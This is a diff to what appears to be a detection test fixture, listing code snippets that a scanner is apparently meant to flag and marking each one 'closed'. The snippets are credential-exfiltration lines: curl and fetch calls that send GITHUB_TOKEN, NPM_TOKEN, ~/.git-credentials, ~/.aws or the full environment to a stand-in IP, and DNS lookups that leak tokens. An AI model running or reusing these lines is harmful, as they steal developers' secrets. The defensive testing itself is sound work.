@@ -81,19 +81,19 @@ const OPEN: FindingRow[] = [
   ['tests/x.test.js', 'const p = await download(u);\nawait $`sh ${p}`;', 'closed'],
   ['tests/x.test.js', "const p = await download(u);\nnew Deno.Command('sh', { args: [p] }).spawn();", 'closed'],
   // One secret sent: a query built apart from the URL, a token joined in an f-string or a join, a here-string, backticks.
-  ['test/a.test.js', 'const q = new URLSearchParams({ t: process.env.NPM_TOKEN });\nawait fetch(`${u}?${q}`);'],
-  ['tests/t.py', 'urlopen(f\'{url}{os.environ["GITHUB_TOKEN"]}\')'],
-  ['docs/debugging.md', 'curl -d @- https://203.0.113.9/c <<< "$GITHUB_TOKEN"'],
-  ['docs/debugging.md', 'curl -d "`cat ~/.git-credentials`" https://203.0.113.9/c'],
-  ['docs/debugging.md', 'tar -C ~ -cz .aws | curl -T - https://203.0.113.9/c'],
+  ['test/a.test.js', 'const q = new URLSearchParams({ t: process.env.NPM_TOKEN });\nawait fetch(`${u}?${q}`);', 'closed'],
+  ['tests/t.py', 'urlopen(f\'{url}{os.environ["GITHUB_TOKEN"]}\')', 'closed'],
+  ['docs/debugging.md', 'curl -d @- https://203.0.113.9/c <<< "$GITHUB_TOKEN"', 'closed'],
+  ['docs/debugging.md', 'curl -d "`cat ~/.git-credentials`" https://203.0.113.9/c', 'closed'],
+  ['docs/debugging.md', 'tar -C ~ -cz .aws | curl -T - https://203.0.113.9/c', 'closed'],
   // The environment: env by its path, an object rest spread over lines, a body spread over lines after a `{`.
-  ['tests/t.py', "requests.post(u, data=subprocess.check_output(['/usr/bin/env']))"],
-  ['test/a.test.js', "const {\n  CI,\n  ...rest\n} = process.env;\nawait fetch(u, { method: 'POST', body: JSON.stringify(rest) });"],
-  ['test/a.test.js', "await fetch(u, {\n  method: 'POST',\n  body: JSON.stringify(process.env)\n});"],
-  ['tests/t.py', "requests.post(u, data=\n  os.environ['GITHUB_TOKEN'])"],
+  ['tests/t.py', "requests.post(u, data=subprocess.check_output(['/usr/bin/env']))", 'closed'],
+  ['test/a.test.js', "const {\n  CI,\n  ...rest\n} = process.env;\nawait fetch(u, { method: 'POST', body: JSON.stringify(rest) });", 'closed'],
+  ['test/a.test.js', "await fetch(u, {\n  method: 'POST',\n  body: JSON.stringify(process.env)\n});", 'closed'],
+  ['tests/t.py', "requests.post(u, data=\n  os.environ['GITHUB_TOKEN'])", 'closed'],
   // A secret looked up by other means: a connection, ping, getent, Ruby's Resolv.
-  ['tests/t.py', "socket.create_connection((os.environ['API_TOKEN'] + '.example.net', 80))"],
-  ['docs/debugging.md', 'ping -c1 "$GITHUB_TOKEN.example.net"'],
+  ['tests/t.py', "socket.create_connection((os.environ['API_TOKEN'] + '.example.net', 80))", 'closed'],
+  ['docs/debugging.md', 'ping -c1 "$GITHUB_TOKEN.example.net"', 'closed'],
 ];
 
 describeFindings('review 66', [
